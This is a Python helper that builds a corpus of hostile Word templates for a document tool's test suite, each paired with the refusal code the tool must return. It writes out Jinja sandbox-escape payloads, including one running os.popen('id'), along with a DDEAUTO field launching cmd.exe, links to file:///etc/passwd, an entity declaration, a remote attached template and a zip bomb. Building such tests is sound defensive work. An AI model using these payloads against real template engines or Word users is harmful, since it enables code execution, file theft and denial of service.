"""Hostile Word templates for tests/data/corpus/: each is the bundled template changed in exactly one way.

Called from make_corpus.py. Attacks that read or write files name them relative to the working folder
(`canary.txt`, `written.xml`, `sefton-2022.xlsx`), so tests run them in a folder of their own holding a
canary whose bytes must never reach an output. Tag attacks sit in the first paragraph of the body, so
their location ("FILE, paragraph 1") does not move when the rest of the template changes.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent.parent
TEMPLATE = REPO / "templates" / "submission.docx"

# (file, first paragraph, code): templates that try to escape the sandbox, reach files or exhaust the machine.
TAG_ATTACKS = (
    ("template-saves-over-a-file.docx", "{{ chart.tpl.docx.save('sefton-2022.xlsx') }}", "template-unsafe"),
    ("template-writes-xml.docx", "{{ chart.tpl.write_xml('written.xml') }}", "template-unsafe"),
    ("template-replaces-a-part.docx", "{{ chart.tpl.replace_zipname('word/theme/theme1.xml', 'canary.txt') }}",
     "template-unsafe"),
    ("template-reads-a-subdocument.docx", "{{ chart.tpl.new_subdoc('canary.txt') }}", "template-unsafe"),
    ("template-include.docx", "{% include 'canary.txt' %}", "template-refused-tag"),
    ("template-include-paragraph.docx", "{%p include 'canary.txt' %}", "template-refused-tag"),
    ("template-import.docx", "{% import 'canary.txt' as c %}", "template-refused-tag"),
    ("template-from-import.docx", "{% from 'canary.txt' import x %}", "template-refused-tag"),
    ("template-extends.docx", "{% extends 'canary.txt' %}", "template-refused-tag"),
    ("template-class-walk.docx", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "template-unsafe"),
    ("template-item-walk.docx", "{{ area['__class__'] }}", "template-unsafe"),
    ("template-cycler-globals.docx", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template-unsafe"),
    ("template-namespace-internals.docx", "{% set ns = namespace(a=1) %}{{ ns.__init__.__globals__ }}",
     "template-unsafe"),
    ("template-self-context.docx", "{{ self._TemplateReference__context }}", "template-unsafe"),
    ("template-format-string.docx", "{{ '{0.__class__.__init__.__globals__}'.format(area) }}", "template-unsafe"),
    ("template-attr-filter.docx", "{{ area|attr('__class__') }}", "template-unsafe"),
    ("template-format-reference.docx", "{% set f = '{0.__class__.__init__.__globals__}'.format %}{{ f(area) }}",
     "template-unsafe"),
    ("template-format-by-map.docx", "{{ (['{0.__class__}']|map(attribute='format')|first)(area) }}",
     "template-unsafe"),
    ("template-map-attribute.docx", "{{ [area]|map(attribute='__class__.__mro__')|list }}", "template-unsafe"),
    ("template-safe-filter.docx", "{{ area|safe }}", "template-unsafe"),
    ("template-changes-data.docx", "{% for s in sections %}{{ s.update({'name': 'x'}) }}{% endfor %}",
     "template-unsafe"),
    ("template-nested-range.docx", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
     "{% endfor %}", "template-loop-too-long"),
    ("template-huge-string.docx", "{{ 'A' * 30000000 }}", "template-too-large"),
    ("template-doubling-string.docx", "{% set a = 'A' * 4000000 %}{{ a + a }}", "template-too-large"),
    ("template-gigabyte-loop.docx", "{% for i in range(10000) %}{{ 'A' * 1000000 }}{% endfor %}",
     "template-too-large"),
    ("template-huge-power.docx", "{{ 2 ** 100000000 }}", "template-too-large"),
    ("template-recursive-macro.docx", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "template-recursion"),
    ("template-division-by-zero.docx", "{{ 1 / 0 }}", "template-failed"),
    ("template-old-chart-object.docx", "{{ chart.tpl }}", "template-unknown-field"),
)


# A template attached from a web address: Word fetches it on opening (a known way to smuggle in macros).
_SETTINGS_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
                  'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                  'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.'
                  'invalid/t.dotm" TargetMode="External"/></Relationships>')


def _with_first_paragraph(text: str, template: Path = TEMPLATE):
    from docx import Document

    doc = Document(template)
    doc.paragraphs[0].insert_paragraph_before(text)
    return doc


def _zip_with(changes: dict, src: bytes, extra: dict | None = None) -> bytes:
    """The template's zip with members changed by `changes` (name → function of bytes) and `extra` added."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename in changes:
                data = changes[item.filename](data)
            zout.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return buf.getvalue()


def _add_relationship(rels: str, rel_type: str, target: str, external: bool = True):
    mode = ' TargetMode="External"' if external else ""

    def change(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", (
            f'<Relationship Id="rId990" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{rel_type}" Target="{target}"{mode}/></Relationships>').encode())
    return {rels: change}


def _field(instr: bytes):
    def change(data: bytes) -> bytes:
        run = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">' + instr
               + b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
        return data.replace(b"<w:body>", b"<w:body>" + run, 1)
    return {"word/document.xml": change}


def make(out: Path, case) -> None:
    """Write every hostile template into `out` and record each with `case(file, code, location, kind=…)`."""
    for name, text, code in TAG_ATTACKS:
        _with_first_paragraph(text).save(out / name)
        case(name, code, f"{name}, paragraph 1", kind="template")

    header = "template-broken-header.docx"
    doc = _with_first_paragraph("")
    doc.sections[0].header.paragraphs[0].text = "{{ area "
    doc.save(out / header)
    case(header, "template-broken-tag", f"{header}: word/header1.xml, paragraph 1", kind="template")

    src = TEMPLATE.read_bytes()
    doctype = b'<!DOCTYPE w:document [<!ENTITY e "&#38;#38;">]>'
    files = {
        "template-entity-declaration.docx": (
            _zip_with({"word/document.xml": lambda d: d.replace(b"?>", b"?>" + doctype, 1)}, src),
            "unsafe-xml", "word/document.xml"),
        "template-external-picture.docx": (
            _zip_with(_add_relationship("word/_rels/document.xml.rels", "image", "file:///etc/passwd"), src),
            "template-external-link", "word/_rels/document.xml.rels (rId990)"),
        "template-web-picture.docx": (
            _zip_with(_add_relationship("word/_rels/document.xml.rels", "image", "http://example.invalid/p.png"),
                      src), "template-external-link", "word/_rels/document.xml.rels (rId990)"),
        "template-file-hyperlink.docx": (
            _zip_with(_add_relationship("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"), src),
            "template-external-link", "word/_rels/document.xml.rels (rId990)"),
        "template-remote-attached-template.docx": (
            _zip_with({}, src, {"word/_rels/settings.xml.rels": _SETTINGS_RELS}),
            "template-external-link", "word/_rels/settings.xml.rels (rId1)"),
        "template-alt-chunk.docx": (
            _zip_with(_add_relationship("word/_rels/document.xml.rels", "aFChunk", "afchunk.mht", external=False),
                      src, {"word/afchunk.mht": "MIME-Version: 1.0\r\n\r\n<html>pulled in</html>"}),
            "template-alt-chunk", "word/_rels/document.xml.rels (rId990)"),
        "template-macros.docx": (
            _zip_with({"[Content_Types].xml": lambda d: d.replace(
                b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml")},
                src, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
            "template-macros", "word/vbaProject.bin"),
        "template-include-text-field.docx": (
            _zip_with(_field(b' INCLUDETEXT "canary.txt" '), src), "template-unsafe-field", "word/document.xml"),
        "template-dde-field.docx": (
            _zip_with(_field(b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), src),
            "template-unsafe-field", "word/document.xml"),
        "template-many-parts.docx": (
            _zip_with({}, src, {f"word/media/part{i}.bin": b"x" for i in range(2100)}),
            "document-too-large", None),
    }
    for name, (data, code, member) in files.items():
        (out / name).write_bytes(data)
        case(name, code, f"{name}: {member}" if member else name, kind="template")

    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED,
                                                                   compresslevel=9) as z:
        for item in zin.infolist():
            z.writestr(item.filename, zin.read(item.filename))
        with z.open("word/media/padding.bin", "w", force_zip64=True) as f:
            block = bytes(1 << 20)
            for _ in range(300):
                f.write(block)
    (out / "template-zip-bomb.docx").write_bytes(bomb.getvalue())
    case("template-zip-bomb.docx", "document-too-large", "template-zip-bomb.docx", kind="template")

    # The chart is the briefing's: a restyled briefing that puts it beside text is refused by `ehsg brief`.
    for name, text in (("template-picture-beside-text.docx", "Our chart: {{ chart }}"),):
        _with_first_paragraph(text, TEMPLATE.with_name("briefing.docx")).save(out / name)
        case(name, "template-picture-misplaced", f"{name}: word/document.xml", kind="template", command="brief")
